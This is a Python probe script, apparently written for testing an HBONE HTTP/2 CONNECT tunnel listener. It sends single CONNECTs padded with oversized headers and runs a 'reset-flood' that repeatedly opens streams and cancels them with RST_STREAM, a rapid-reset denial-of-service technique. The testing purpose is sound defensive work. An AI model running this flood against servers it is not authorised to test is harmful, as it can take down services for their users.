#!/usr/bin/env python3
"""Hostile HBONE probes, built on hbone_client.py's independent client (stdlib `ssl` + `h2`).

    hbone_probe.py connect --connect IP:PORT --authority A --cert F --key F --ca F [--pad BYTES]
        One CONNECT (with an `x-pad` header of BYTES bytes if asked). Prints
        {"status": N, "elapsed_ms": T} (T from sending the HEADERS to the response) or
        {"error": ..., "detail": ..., "elapsed_ms": T}.

    hbone_probe.py reset-flood --connect ... --authority A ... --count N --pause-ms P
        On one connection, N times: HEADERS (CONNECT A), wait P ms (reading what arrives), then
        RST_STREAM(CANCEL). Prints {"sent": N, "statuses": {...}, "resets": R, "goaway": code|null}.

Exits non-zero only on usage errors.
"""

import argparse
import json
import select
import ssl
import sys
import time

import h2.errors
import h2.events
import h2.exceptions

from hbone_client import Client, Failure, split_hostport


class Probe(Client):
    def poll_events(self, wait):
        """Handles whatever arrives within `wait` seconds; returns the events (EOF raises)."""
        events = []
        end = time.monotonic() + wait
        while True:
            left = max(0.0, end - time.monotonic())
            if not self.sock.pending():
                readable, _, _ = select.select([self.sock], [], [], left)
                if not readable:
                    return events
            events += self.read_events()
            if time.monotonic() >= end:
                return events

    def connect_once(self, authority, pad):
        self.open()
        sid = self.conn.get_next_available_stream_id()
        headers = [(":method", "CONNECT"), (":authority", authority)]
        if pad:
            headers.append(("x-pad", "a" * pad))
        start = time.monotonic()
        self.conn.send_headers(sid, headers)
        self.flush()
        while True:
            for ev in self.read_events():
                elapsed = round((time.monotonic() - start) * 1000, 1)
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = int(dict(ev.headers).get(":status", "0"))
                    self.goodbye(sid)
                    return {"status": status, "elapsed_ms": elapsed}
                if isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
                    return {"error": "reset", "detail": f"code {ev.error_code}", "elapsed_ms": elapsed}
                if isinstance(ev, h2.events.ConnectionTerminated):
                    return {"error": "closed", "detail": f"GOAWAY {ev.error_code}", "elapsed_ms": elapsed}

    def reset_flood(self, authority, count, pause):
        self.open()
        statuses, resets, goaway = {}, 0, None
        sent = 0

        def note(events):
            nonlocal resets, goaway
            for ev in events:
                if isinstance(ev, h2.events.ResponseReceived):
                    s = dict(ev.headers).get(":status", "0")
                    statuses[s] = statuses.get(s, 0) + 1
                elif isinstance(ev, h2.events.StreamReset):
                    resets += 1
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    goaway = int(ev.error_code)

        for _ in range(count):
            if goaway is not None:
                break
            # Keep our window open: the flood is about streams, not flow control.
            self.deadline = time.monotonic() + self.args.timeout
            sid = self.conn.get_next_available_stream_id()
            self.conn.send_headers(sid, [(":method", "CONNECT"), (":authority", authority)])
            self.flush()
            sent += 1
            note(self.poll_events(pause))
            try:
                self.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            except h2.exceptions.StreamClosedError:
                pass  # answered (and ended) during the pause
            self.flush()
        self.deadline = time.monotonic() + self.args.timeout
        note(self.poll_events(0.2))
        try:
            self.conn.close_connection()
            self.flush()
            self.sock.close()
        except (ssl.SSLError, OSError, h2.exceptions.H2Error):
            pass
        return {"sent": sent, "statuses": statuses, "resets": resets, "goaway": goaway}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["connect", "reset-flood"])
    p.add_argument("--connect", required=True, help="IP:PORT of the HBONE listener")
    p.add_argument("--authority", required=True, help=":authority of the CONNECTs (IP:PORT)")
    p.add_argument("--cert", required=True, help="client certificate chain, PEM")
    p.add_argument("--key", required=True, help="client private key, PEM")
    p.add_argument("--ca", required=True, help="trust anchors for the server, PEM")
    p.add_argument("--pad", type=int, default=0, help="connect: bytes of an extra header")
    p.add_argument("--count", type=int, default=600, help="reset-flood: streams")
    p.add_argument("--pause-ms", type=float, default=3.0, help="reset-flood: HEADERS to RST_STREAM")
    p.add_argument("--timeout", type=float, default=10.0, help="deadline per answer, seconds")
    args = p.parse_args()
    try:
        split_hostport(args.connect)
    except ValueError as e:
        p.error(str(e))
    probe = Probe(args)
    start = time.monotonic()
    try:
        if args.mode == "connect":
            out = probe.connect_once(args.authority, args.pad)
        else:
            out = probe.reset_flood(args.authority, args.count, args.pause_ms / 1000.0)
    except Failure as f:
        out = {"error": f.kind, "detail": f.detail, "elapsed_ms": round((time.monotonic() - start) * 1000, 1)}
    except (ssl.SSLError, OSError) as e:
        out = {"error": "closed", "detail": repr(e)}
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
